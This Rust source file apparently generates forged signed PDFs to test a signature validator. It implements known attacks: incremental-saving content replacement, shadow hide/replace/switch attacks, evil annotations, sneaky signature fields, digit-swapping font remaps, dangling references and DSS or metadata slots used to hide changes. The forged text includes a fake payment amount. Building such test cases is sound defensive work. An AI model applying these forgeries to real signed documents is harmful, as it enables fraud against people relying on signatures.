//! Attacks on what a page shows: incremental saving, shadow attacks, evil annotations, sneaky
//! signatures, appearance and form tricks, and changes hidden in slots that look allowed.

use std::cell::Cell;

use lopdf::{Dictionary, Object, ObjectId};

use super::{
    Ctx, FORGED_TEXT, OVER_TEXT, add_annotation, content_stream, contents_of, forged_appearance,
    forged_page, overlay, signature_fields,
};
use crate::populations::craft::{self, Extra, Numbers, Section, name, rect};
use crate::populations::document::{Doc, Siegel};

// Incremental saving.

pub fn replace_content(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        Section::new().set(info.contents_id, &content_stream(&forged_page()))
    });
    doc
}

pub fn repoint_contents(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let new = Numbers::after(bytes).next();
        let mut page = info.page.clone();
        page.set("Contents", Object::Reference(new));
        Section::new()
            .set(new, &content_stream(&forged_page()))
            .set(info.page_id, &Object::Dictionary(page))
    });
    doc
}

pub fn append_overlay(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let new = Numbers::after(bytes).next();
        let mut list = contents_of(bytes, &info.page);
        list.push(Object::Reference(new));
        let mut page = info.page.clone();
        page.set("Contents", Object::Array(list));
        Section::new()
            .set(new, &content_stream(&overlay()))
            .set(info.page_id, &Object::Dictionary(page))
    });
    doc
}

pub fn add_page(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let pages_id = info.catalog.get(b"Pages").unwrap().as_reference().unwrap();
        let mut pages = craft::dictionary(bytes, &Object::Reference(pages_id));
        let mut numbers = Numbers::after(bytes);
        let (page_id, content_id) = (numbers.next(), numbers.next());
        let mut page = info.page.clone();
        page.remove(b"Annots");
        page.set("Parent", Object::Reference(pages_id));
        page.set("Contents", Object::Reference(content_id));
        if !page.has(b"MediaBox") {
            page.set("MediaBox", rect([0.0, 0.0, 595.0, 842.0]));
        }
        if !page.has(b"Resources") {
            page.set("Resources", craft::helvetica_resources());
        }
        let mut kids = craft::open(bytes)
            .resolve(pages.get(b"Kids").unwrap())
            .unwrap();
        kids.as_array_mut()
            .unwrap()
            .push(Object::Reference(page_id));
        let count = pages.get(b"Count").unwrap().as_i64().unwrap();
        pages.set("Kids", kids);
        pages.set("Count", Object::Integer(count + 1));
        Section::new()
            .set(content_id, &content_stream(&forged_page()))
            .set(page_id, &Object::Dictionary(page))
            .set(pages_id, &Object::Dictionary(pages))
    });
    doc
}

/// A Helvetica whose digits are drawn with other digits' glyphs.
pub fn remapped_font() -> Object {
    let mut encoding = Dictionary::new();
    encoding.set("Type", name("Encoding"));
    encoding.set("BaseEncoding", name("WinAnsiEncoding"));
    let mut differences = vec![Object::Integer(48)];
    for digit in [
        "nine", "eight", "seven", "six", "five", "four", "three", "two", "one", "zero",
    ] {
        differences.push(name(digit));
    }
    encoding.set("Differences", Object::Array(differences));
    let mut font = Dictionary::new();
    font.set("Type", name("Font"));
    font.set("Subtype", name("Type1"));
    font.set("BaseFont", name("Helvetica"));
    font.set("Encoding", Object::Dictionary(encoding));
    Object::Dictionary(font)
}

/// The first page's `/F1` font object.
fn page_font(bytes: &[u8]) -> ObjectId {
    let info = craft::info(bytes);
    let mut file = craft::open(bytes);
    let resources = file
        .dictionary(info.page.get(b"Resources").unwrap())
        .unwrap();
    let fonts = file.dictionary(resources.get(b"Font").unwrap()).unwrap();
    fonts.get(b"F1").unwrap().as_reference().unwrap()
}

pub fn replace_font(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| Section::new().set(page_font(bytes), &remapped_font()));
    doc
}

// Shadow attacks.

/// The hidden line and its cover, prepared before signing: /Contents [signed, hidden, cover].
fn prepare_cover(doc: &mut Doc, hidden: &Cell<ObjectId>, cover: &Cell<ObjectId>) {
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let mut numbers = Numbers::after(bytes);
        hidden.set(numbers.next());
        cover.set(numbers.next());
        let mut list = contents_of(bytes, &info.page);
        list.push(Object::Reference(hidden.get()));
        list.push(Object::Reference(cover.get()));
        let mut page = info.page.clone();
        page.set("Contents", Object::Array(list));
        Section::new()
            .set(
                hidden.get(),
                &content_stream(
                    format!("BT /F1 14 Tf 72 650 Td ({FORGED_TEXT}) Tj ET\n").as_bytes(),
                ),
            )
            .set(
                cover.get(),
                &content_stream(
                    craft::overwrite(68.0, 640.0, 400.0, 30.0, "Zahlung: 100,00 EUR").as_bytes(),
                ),
            )
            .set(info.page_id, &Object::Dictionary(page))
    });
}

pub fn shadow_hide_contents(ctx: &Ctx, base: &str) -> Doc {
    let (hidden, cover) = (Cell::new((0, 0)), Cell::new((0, 0)));
    let mut doc = ctx.prepared(base, |doc| prepare_cover(doc, &hidden, &cover));
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let list: Vec<Object> = contents_of(bytes, &info.page)
            .into_iter()
            .filter(|o| o.as_reference().ok() != Some(cover.get()))
            .collect();
        let mut page = info.page.clone();
        page.set("Contents", Object::Array(list));
        Section::new().set(info.page_id, &Object::Dictionary(page))
    });
    doc
}

pub fn shadow_hide_emptied(ctx: &Ctx, base: &str) -> Doc {
    let (hidden, cover) = (Cell::new((0, 0)), Cell::new((0, 0)));
    let mut doc = ctx.prepared(base, |doc| prepare_cover(doc, &hidden, &cover));
    doc.update(|_| Section::new().set(cover.get(), &content_stream(b" ")));
    doc
}

pub fn shadow_hide_freed(ctx: &Ctx, base: &str) -> Doc {
    let (hidden, cover) = (Cell::new((0, 0)), Cell::new((0, 0)));
    let mut doc = ctx.prepared(base, |doc| prepare_cover(doc, &hidden, &cover));
    doc.update(|_| Section::new().extra(Extra::Free(cover.get().0)));
    doc
}

pub fn shadow_hide_annotation(ctx: &Ctx, base: &str) -> Doc {
    let note = Cell::new((0, 0));
    let mut doc = ctx.prepared(base, |doc| {
        let (hidden, cover) = (Cell::new((0, 0)), Cell::new((0, 0)));
        prepare_cover(doc, &hidden, &cover);
        // The cover becomes an annotation instead of page content.
        doc.update(|bytes| {
            let info = craft::info(bytes);
            let list: Vec<Object> = contents_of(bytes, &info.page)
                .into_iter()
                .filter(|o| o.as_reference().ok() != Some(cover.get()))
                .collect();
            let mut page = info.page.clone();
            page.set("Contents", Object::Array(list));
            Section::new().set(info.page_id, &Object::Dictionary(page))
        });
        let at = [68.0, 640.0, 468.0, 670.0];
        add_cover_annotation(doc, at, &note);
    });
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let without = |list: Vec<Object>| {
            Object::Array(
                list.into_iter()
                    .filter(|o| o.as_reference().ok() != Some(note.get()))
                    .collect(),
            )
        };
        match info.page.get(b"Annots").unwrap() {
            Object::Reference(id) => {
                let list = craft::object(bytes, *id).as_array().unwrap().clone();
                Section::new().set(*id, &without(list))
            }
            Object::Array(list) => {
                let mut page = info.page.clone();
                page.set("Annots", without(list.clone()));
                Section::new().set(info.page_id, &Object::Dictionary(page))
            }
            other => panic!("/Annots is {other:?}"),
        }
    });
    doc
}

/// A Square annotation whose appearance paints a harmless amount over the hidden line.
fn add_cover_annotation(doc: &mut Doc, at: [f32; 4], id_out: &Cell<ObjectId>) {
    doc.update(|bytes| {
        let mut numbers = Numbers::after(bytes);
        let id = numbers.next();
        let ap = numbers.next();
        id_out.set(id);
        let info = craft::info(bytes);
        let (w, h) = (at[2] - at[0], at[3] - at[1]);
        let appearance = craft::form_xobject(
            w,
            h,
            &craft::overwrite(0.0, 0.0, w, h, "Zahlung: 100,00 EUR"),
        );
        let mut annotation = Dictionary::new();
        annotation.set("Type", name("Annot"));
        annotation.set("Subtype", name("Square"));
        annotation.set("Rect", rect(at));
        annotation.set("F", Object::Integer(4));
        annotation.set("P", Object::Reference(info.page_id));
        let mut ap_dict = Dictionary::new();
        ap_dict.set("N", Object::Reference(ap));
        annotation.set("AP", Object::Dictionary(ap_dict));
        let section = Section::new()
            .set(id, &Object::Dictionary(annotation))
            .set(ap, &appearance);
        craft::add_to_annots(bytes, section, id)
    });
}

/// A borderless text field at `at` whose appearance shows `value` like page text.
fn prepare_field(doc: &mut Doc, at: [f32; 4], value: &str, field: &Cell<ObjectId>) {
    doc.update(|bytes| {
        let mut numbers = Numbers::after(bytes);
        let id = numbers.next();
        let ap = numbers.next();
        field.set(id);
        let info = craft::info(bytes);
        let mut widget = Dictionary::new();
        widget.set("Type", name("Annot"));
        widget.set("Subtype", name("Widget"));
        widget.set("FT", name("Tx"));
        widget.set("T", Object::string_literal("Betrag"));
        widget.set("V", Object::string_literal(value));
        widget.set("DA", Object::string_literal("/Helv 14 Tf 0 g"));
        widget.set("Rect", rect(at));
        widget.set("F", Object::Integer(4));
        widget.set("P", Object::Reference(info.page_id));
        let mut ap_dict = Dictionary::new();
        ap_dict.set("N", Object::Reference(ap));
        widget.set("AP", Object::Dictionary(ap_dict));
        let (w, h) = (at[2] - at[0], at[3] - at[1]);
        let content = if value.is_empty() {
            String::new()
        } else {
            format!("/Tx BMC BT /Helv 14 Tf 0 g 2 6 Td ({value}) Tj ET EMC")
        };
        let section = Section::new()
            .set(id, &Object::Dictionary(widget))
            .set(ap, &craft::form_xobject(w, h, &content));
        let section = craft::add_to_annots(bytes, section, id);
        craft::add_to_fields(bytes, section, id, &mut numbers)
    });
}

/// Fills field `id` with `value` and an opaque appearance, as a form filler would.
fn fill_field(doc: &mut Doc, id: ObjectId, value: &str) {
    doc.update(|bytes| {
        let mut widget = craft::dictionary(bytes, &Object::Reference(id));
        let at = crate::populations::clerk::rect_of(&widget);
        let (w, h) = (at[2] - at[0], at[3] - at[1]);
        let ap = Numbers::after(bytes).next();
        widget.set("V", Object::string_literal(value));
        let mut ap_dict = Dictionary::new();
        ap_dict.set("N", Object::Reference(ap));
        widget.set("AP", Object::Dictionary(ap_dict));
        Section::new()
            .set(
                ap,
                &craft::form_xobject(w, h, &craft::overwrite(0.0, 0.0, w, h, value)),
            )
            .set(id, &Object::Dictionary(widget))
    });
}

pub fn shadow_replace_field(ctx: &Ctx, base: &str) -> Doc {
    let field = Cell::new((0, 0));
    let mut doc = ctx.prepared(base, |doc| {
        prepare_field(
            doc,
            [68.0, 640.0, 468.0, 670.0],
            "Zahlung: 100,00 EUR",
            &field,
        )
    });
    fill_field(&mut doc, field.get(), FORGED_TEXT);
    doc
}

pub fn shadow_replace_field_over_text(ctx: &Ctx, base: &str) -> Doc {
    let field = Cell::new((0, 0));
    let mut doc = ctx.prepared(base, |doc| prepare_field(doc, OVER_TEXT, "", &field));
    fill_field(&mut doc, field.get(), FORGED_TEXT);
    doc
}

/// An alternative page content nobody shows yet, prepared before signing.
fn prepare_hidden_stream(doc: &mut Doc, hidden: &Cell<ObjectId>) {
    doc.update(|bytes| {
        hidden.set(Numbers::after(bytes).next());
        Section::new().set(hidden.get(), &content_stream(&forged_page()))
    });
}

pub fn shadow_switch_contents(ctx: &Ctx, base: &str) -> Doc {
    let hidden = Cell::new((0, 0));
    let mut doc = ctx.prepared(base, |doc| prepare_hidden_stream(doc, &hidden));
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let mut page = info.page.clone();
        page.set("Contents", Object::Reference(hidden.get()));
        Section::new().set(info.page_id, &Object::Dictionary(page))
    });
    doc
}

pub fn shadow_switch_pages(ctx: &Ctx, base: &str) -> Doc {
    let tree = Cell::new((0, 0));
    let mut doc = ctx.prepared(base, |doc| {
        doc.update(|bytes| {
            let (pages, section) = forged_tree(&mut Numbers::after(bytes), Section::new());
            tree.set(pages);
            section
        })
    });
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let mut catalog = info.catalog.clone();
        catalog.set("Pages", Object::Reference(tree.get()));
        Section::new().set(info.catalog_id, &Object::Dictionary(catalog))
    });
    doc
}

// Evil annotations.

pub fn eaa_free_text(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    add_annotation(&mut doc, "FreeText", forged_appearance(OVER_TEXT), |a| {
        a.set("Contents", Object::string_literal(FORGED_TEXT));
        a.set("DA", Object::string_literal("/Helv 14 Tf 0 g"));
    });
    doc
}

pub fn eaa_stamp(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    add_annotation(&mut doc, "Stamp", forged_appearance(OVER_TEXT), |a| {
        a.set("Name", name("Approved"));
    });
    doc
}

pub fn eaa_text(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    add_annotation(&mut doc, "Text", forged_appearance(OVER_TEXT), |a| {
        a.set("Contents", Object::string_literal("Notiz"));
        a.set("Name", name("Comment"));
    });
    doc
}

pub fn eaa_highlight(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    add_annotation(&mut doc, "Highlight", forged_appearance(OVER_TEXT), |a| {
        let [x1, y1, x2, y2] = OVER_TEXT;
        a.set(
            "QuadPoints",
            Object::Array(
                [x1, y2, x2, y2, x1, y1, x2, y1]
                    .iter()
                    .map(|v| Object::Real(*v))
                    .collect(),
            ),
        );
    });
    doc
}

pub fn eaa_square(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    let [x1, y1, x2, y2] = OVER_TEXT;
    let blank = craft::form_xobject(
        x2 - x1,
        y2 - y1,
        &format!("q 1 g 0 0 {} {} re f Q", x2 - x1, y2 - y1),
    );
    add_annotation(&mut doc, "Square", blank, |a| {
        a.set("IC", Object::Array(vec![1.into(), 1.into(), 1.into()]));
    });
    doc
}

// Sneaky signatures.

/// A new signature field over the signed text, with `value` as `/V` (if any) and the
/// forged appearance; `rect` overrides the widget's `/Rect` (raw bytes are not needed).
fn sneaky_field(
    doc: &mut Doc,
    value: impl FnOnce(&[u8], &mut Numbers, Section) -> (Option<Object>, Section),
    rect_value: impl FnOnce(&mut Numbers, Section) -> (Object, Section),
) {
    doc.update(|bytes| {
        let mut numbers = Numbers::after(bytes);
        let id = numbers.next();
        let ap = numbers.next();
        let info = craft::info(bytes);
        let section = Section::new();
        let (value, section) = value(bytes, &mut numbers, section);
        let (rect_value, section) = rect_value(&mut numbers, section);
        let mut widget = Dictionary::new();
        widget.set("Type", name("Annot"));
        widget.set("Subtype", name("Widget"));
        widget.set("FT", name("Sig"));
        widget.set("T", Object::string_literal("Freigabe"));
        widget.set("Rect", rect_value);
        widget.set("F", Object::Integer(4));
        widget.set("P", Object::Reference(info.page_id));
        if let Some(value) = value {
            widget.set("V", value);
        }
        let mut ap_dict = Dictionary::new();
        ap_dict.set("N", Object::Reference(ap));
        widget.set("AP", Object::Dictionary(ap_dict));
        let section = section
            .set(id, &Object::Dictionary(widget))
            .set(ap, &forged_appearance(OVER_TEXT));
        let section = craft::add_to_annots(bytes, section, id);
        craft::add_to_fields(bytes, section, id, &mut numbers)
    });
}

fn direct_rect(_: &mut Numbers, section: Section) -> (Object, Section) {
    (rect(OVER_TEXT), section)
}

pub fn ssa_without_value(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    sneaky_field(&mut doc, |_, _, s| (None, s), direct_rect);
    doc
}

pub fn ssa_old_value(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    sneaky_field(
        &mut doc,
        |bytes, _, s| (Some(Object::Reference(signature_fields(bytes)[0].2)), s),
        direct_rect,
    );
    doc
}

pub fn ssa_copied_value(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    sneaky_field(
        &mut doc,
        |bytes, numbers, s| {
            let original = craft::object(bytes, signature_fields(bytes)[0].2);
            let copy = numbers.next();
            (Some(Object::Reference(copy)), s.set(copy, &original))
        },
        direct_rect,
    );
    doc
}

pub fn ssa_page_value(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    sneaky_field(
        &mut doc,
        |bytes, _, s| (Some(Object::Reference(craft::info(bytes).page_id)), s),
        direct_rect,
    );
    doc
}

pub fn ssa_stream_value(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    sneaky_field(
        &mut doc,
        |bytes, numbers, s| {
            // A stream whose dictionary is the signature dictionary's.
            let Object::Dictionary(original) = craft::object(bytes, signature_fields(bytes)[0].2)
            else {
                panic!("signature value is not a dictionary");
            };
            let id = numbers.next();
            (
                Some(Object::Reference(id)),
                s.set(id, &craft::stream(original, b"not a signature")),
            )
        },
        direct_rect,
    );
    doc
}

pub fn ssa_real_signature(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    let [x1, y1, x2, y2] = OVER_TEXT;
    let how = Siegel::signature("signature-ec.p12").visible(0, [x1, y1, x2 - x1, y2 - y1]);
    doc.siegel(ctx.workspace, &how);
    // The attacker's widget is not an allowed area: it covers signed content.
    doc.allowed.clear();
    doc
}

pub fn rect_indirect_array(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    sneaky_field(
        &mut doc,
        |_, _, s| (None, s),
        |numbers, s| {
            let id = numbers.next();
            (Object::Reference(id), s.set(id, &rect(OVER_TEXT)))
        },
    );
    doc
}

pub fn rect_indirect_numbers(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    sneaky_field(
        &mut doc,
        |_, _, s| (None, s),
        |numbers, mut s| {
            let mut items = Vec::new();
            for value in OVER_TEXT {
                let id = numbers.next();
                s = s.set(id, &Object::Real(value));
                items.push(Object::Reference(id));
            }
            (Object::Array(items), s)
        },
    );
    doc
}

// Appearances and forms.

/// The signed signature's widget and its normal appearance stream.
fn signed_appearance(bytes: &[u8]) -> (ObjectId, Dictionary, ObjectId) {
    let (field, dict, _) = signature_fields(bytes).remove(0);
    let ap = craft::dictionary(bytes, dict.get(b"AP").unwrap());
    let normal = ap.get(b"N").unwrap().as_reference().unwrap();
    (field, dict, normal)
}

fn signature_box(dict: &Dictionary) -> [f32; 4] {
    crate::populations::clerk::rect_of(dict)
}

pub fn appearance_redefined(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let (_, dict, normal) = signed_appearance(bytes);
        Section::new().set(normal, &forged_appearance(signature_box(&dict)))
    });
    doc
}

pub fn appearance_repointed(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let (field, mut dict, _) = signed_appearance(bytes);
        let new = Numbers::after(bytes).next();
        let mut ap = Dictionary::new();
        ap.set("N", Object::Reference(new));
        let at = signature_box(&dict);
        dict.set("AP", Object::Dictionary(ap));
        Section::new()
            .set(new, &forged_appearance(at))
            .set(field, &Object::Dictionary(dict))
    });
    doc
}

/// The form dictionary (form.pdf keeps it indirect).
fn acroform(bytes: &[u8]) -> (ObjectId, Dictionary) {
    let info = craft::info(bytes);
    let id = info
        .catalog
        .get(b"AcroForm")
        .unwrap()
        .as_reference()
        .unwrap();
    (id, craft::dictionary(bytes, &Object::Reference(id)))
}

pub fn need_appearances_font(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let (id, mut form) = acroform(bytes);
        let font = Numbers::after(bytes).next();
        let mut fonts = Dictionary::new();
        fonts.set("Helv", Object::Reference(font));
        let mut resources = Dictionary::new();
        resources.set("Font", Object::Dictionary(fonts));
        form.set("DR", Object::Dictionary(resources));
        form.set("NeedAppearances", Object::Boolean(true));
        Section::new()
            .set(font, &remapped_font())
            .set(id, &Object::Dictionary(form))
    });
    doc
}

pub fn need_appearances_value(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let (id, mut form) = acroform(bytes);
        form.set("NeedAppearances", Object::Boolean(true));
        let (field, mut widget) = crate::populations::clerk::find_field(bytes, "Aktenzeichen");
        widget.set("V", Object::string_literal("99-GEFAELSCHT-2026"));
        Section::new()
            .set(id, &Object::Dictionary(form))
            .set(field, &Object::Dictionary(widget))
    });
    doc
}

// Content arrays and references filled in after signing.

pub fn contents_array_grows(ctx: &Ctx, base: &str) -> Doc {
    let array = Cell::new((0, 0));
    let mut doc = ctx.prepared(base, |doc| {
        doc.update(|bytes| {
            let info = craft::info(bytes);
            array.set(Numbers::after(bytes).next());
            let mut page = info.page.clone();
            page.set("Contents", Object::Reference(array.get()));
            Section::new()
                .set(array.get(), &Object::Array(contents_of(bytes, &info.page)))
                .set(info.page_id, &Object::Dictionary(page))
        })
    });
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let new = Numbers::after(bytes).next();
        let mut list = contents_of(bytes, &info.page);
        list.push(Object::Reference(new));
        Section::new()
            .set(new, &content_stream(&overlay()))
            .set(array.get(), &Object::Array(list))
    });
    doc
}

/// Prepares a reference to an object that does not exist, well above `/Size` so that the
/// signer's own new objects do not take its number, through `place`.
fn prepare_dangling(
    doc: &mut Doc,
    dangling: &Cell<ObjectId>,
    place: impl FnOnce(&[u8], ObjectId) -> Section,
) {
    doc.update(|bytes| {
        let id = (craft::open(bytes).size() + 50, 0);
        dangling.set(id);
        place(bytes, id)
    });
}

pub fn dangling_contents(ctx: &Ctx, base: &str) -> Doc {
    let dangling = Cell::new((0, 0));
    let mut doc = ctx.prepared(base, |doc| {
        prepare_dangling(doc, &dangling, |bytes, id| {
            let info = craft::info(bytes);
            let mut list = contents_of(bytes, &info.page);
            list.push(Object::Reference(id));
            let mut page = info.page.clone();
            page.set("Contents", Object::Array(list));
            Section::new().set(info.page_id, &Object::Dictionary(page))
        })
    });
    doc.update(|_| Section::new().set(dangling.get(), &content_stream(&overlay())));
    doc
}

pub fn dangling_xobject(ctx: &Ctx, base: &str) -> Doc {
    let dangling = Cell::new((0, 0));
    let mut doc = ctx.prepared(base, |doc| {
        prepare_dangling(doc, &dangling, |bytes, id| {
            let info = craft::info(bytes);
            let mut file = craft::open(bytes);
            let mut resources = file
                .dictionary(info.page.get(b"Resources").unwrap())
                .unwrap();
            let mut xobjects = Dictionary::new();
            xobjects.set("Fm9", Object::Reference(id));
            resources.set("XObject", Object::Dictionary(xobjects));
            let draw = (id.0 + 1, 0);
            let mut list = contents_of(bytes, &info.page);
            list.push(Object::Reference(draw));
            let mut page = info.page.clone();
            page.set("Resources", Object::Dictionary(resources));
            page.set("Contents", Object::Array(list));
            Section::new()
                .set(draw, &content_stream(b"q /Fm9 Do Q"))
                .set(info.page_id, &Object::Dictionary(page))
        })
    });
    doc.update(|_| {
        Section::new().set(
            dangling.get(),
            &craft::form_xobject(595.0, 842.0, &String::from_utf8(overlay()).unwrap()),
        )
    });
    doc
}

pub fn dangling_annotation(ctx: &Ctx, base: &str) -> Doc {
    let dangling = Cell::new((0, 0));
    let mut doc = ctx.prepared(base, |doc| {
        prepare_dangling(doc, &dangling, |bytes, id| {
            craft::add_to_annots(bytes, Section::new(), id)
        })
    });
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let ap = Numbers::after(bytes).next().max((dangling.get().0 + 1, 0));
        let mut annotation = Dictionary::new();
        annotation.set("Type", name("Annot"));
        annotation.set("Subtype", name("FreeText"));
        annotation.set("Rect", rect(OVER_TEXT));
        annotation.set("F", Object::Integer(4));
        annotation.set("P", Object::Reference(info.page_id));
        annotation.set("DA", Object::string_literal("/Helv 14 Tf 0 g"));
        let mut ap_dict = Dictionary::new();
        ap_dict.set("N", Object::Reference(ap));
        annotation.set("AP", Object::Dictionary(ap_dict));
        Section::new()
            .set(dangling.get(), &Object::Dictionary(annotation))
            .set(ap, &forged_appearance(OVER_TEXT))
    });
    doc
}

// Allowed slots used as hiding places.

/// Adds `dss` as the catalog's `/DSS` to `section` (the catalog rewritten as given).
fn with_dss(
    bytes: &[u8],
    section: Section,
    dss: Dictionary,
    catalog: Option<Dictionary>,
) -> Section {
    let info = craft::info(bytes);
    let id = Numbers::after(bytes).next();
    let mut catalog = catalog.unwrap_or(info.catalog);
    catalog.set("DSS", Object::Reference(id));
    section
        .set(id, &Object::Dictionary(dss))
        .set(info.catalog_id, &Object::Dictionary(catalog))
}

pub fn dss_names_content(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let mut dss = Dictionary::new();
        dss.set(
            "Certs",
            Object::Array(vec![Object::Reference(info.contents_id)]),
        );
        let section = Section::new().set(info.contents_id, &content_stream(&forged_page()));
        with_dss(bytes, section, dss, None)
    });
    doc
}

pub fn vri_names_page(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let mut numbers = Numbers::after(bytes);
        numbers.next(); // the DSS
        let content = numbers.next();
        let mut entry = Dictionary::new();
        entry.set("Cert", Object::Array(vec![Object::Reference(info.page_id)]));
        let mut vri = Dictionary::new();
        vri.set(
            "3A5F1C2B4D6E8F90A1B2C3D4E5F60718293A4B5C",
            Object::Dictionary(entry),
        );
        let mut dss = Dictionary::new();
        dss.set("VRI", Object::Dictionary(vri));
        let mut page = info.page.clone();
        page.set("Contents", Object::Reference(content));
        let section = Section::new()
            .set(content, &content_stream(&forged_page()))
            .set(info.page_id, &Object::Dictionary(page));
        with_dss(bytes, section, dss, None)
    });
    doc
}

/// A page tree with one forged page, as new objects after `numbers`.
fn forged_tree(numbers: &mut Numbers, section: Section) -> (ObjectId, Section) {
    let (pages, page, content) = (numbers.next(), numbers.next(), numbers.next());
    let mut new_page = Dictionary::new();
    new_page.set("Type", name("Page"));
    new_page.set("Parent", Object::Reference(pages));
    new_page.set("MediaBox", rect([0.0, 0.0, 595.0, 842.0]));
    new_page.set("Resources", craft::helvetica_resources());
    new_page.set("Contents", Object::Reference(content));
    let mut new_pages = Dictionary::new();
    new_pages.set("Type", name("Pages"));
    new_pages.set("Kids", Object::Array(vec![Object::Reference(page)]));
    new_pages.set("Count", Object::Integer(1));
    let section = section
        .set(pages, &Object::Dictionary(new_pages))
        .set(page, &Object::Dictionary(new_page))
        .set(content, &content_stream(&forged_page()));
    (pages, section)
}

pub fn dss_names_catalog(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let mut numbers = Numbers::after(bytes);
        numbers.next(); // the DSS
        let (tree, section) = forged_tree(&mut numbers, Section::new());
        let mut dss = Dictionary::new();
        dss.set(
            "OCSPs",
            Object::Array(vec![Object::Reference(info.catalog_id)]),
        );
        let mut catalog = info.catalog.clone();
        catalog.set("Pages", Object::Reference(tree));
        with_dss(bytes, section, dss, Some(catalog))
    });
    doc
}

pub fn dss_names_pages(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let pages_id = info.catalog.get(b"Pages").unwrap().as_reference().unwrap();
        let mut pages = craft::dictionary(bytes, &Object::Reference(pages_id));
        let mut numbers = Numbers::after(bytes);
        numbers.next(); // the DSS
        let (page_id, content) = (numbers.next(), numbers.next());
        let mut page = Dictionary::new();
        page.set("Type", name("Page"));
        page.set("Parent", Object::Reference(pages_id));
        page.set("MediaBox", rect([0.0, 0.0, 595.0, 842.0]));
        page.set("Resources", craft::helvetica_resources());
        page.set("Contents", Object::Reference(content));
        pages.set("Kids", Object::Array(vec![Object::Reference(page_id)]));
        pages.set("Count", Object::Integer(1));
        let mut dss = Dictionary::new();
        dss.set("CRLs", Object::Array(vec![Object::Reference(pages_id)]));
        let section = Section::new()
            .set(content, &content_stream(&forged_page()))
            .set(page_id, &Object::Dictionary(page))
            .set(pages_id, &Object::Dictionary(pages));
        with_dss(bytes, section, dss, None)
    });
    doc
}

pub fn metadata_retyped(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let mut dict = Dictionary::new();
        dict.set("Type", name("Metadata"));
        dict.set("Subtype", name("XML"));
        let mut catalog = info.catalog.clone();
        catalog.set("Metadata", Object::Reference(info.contents_id));
        Section::new()
            .set(info.contents_id, &craft::stream(dict, &forged_page()))
            .set(info.catalog_id, &Object::Dictionary(catalog))
    });
    doc
}

pub fn info_names_page(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let content = Numbers::after(bytes).next();
        let mut page = info.page.clone();
        page.set("Contents", Object::Reference(content));
        page.set("Title", Object::string_literal("Bescheid"));
        Section::new()
            .set(content, &content_stream(&forged_page()))
            .set(info.page_id, &Object::Dictionary(page))
            .trailer("Info", Object::Reference(info.page_id))
    });
    doc
}

pub fn info_names_content(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let mut dict = Dictionary::new();
        dict.set("Title", Object::string_literal("Bescheid"));
        Section::new()
            .set(info.contents_id, &craft::stream(dict, &forged_page()))
            .trailer("Info", Object::Reference(info.contents_id))
    });
    doc
}
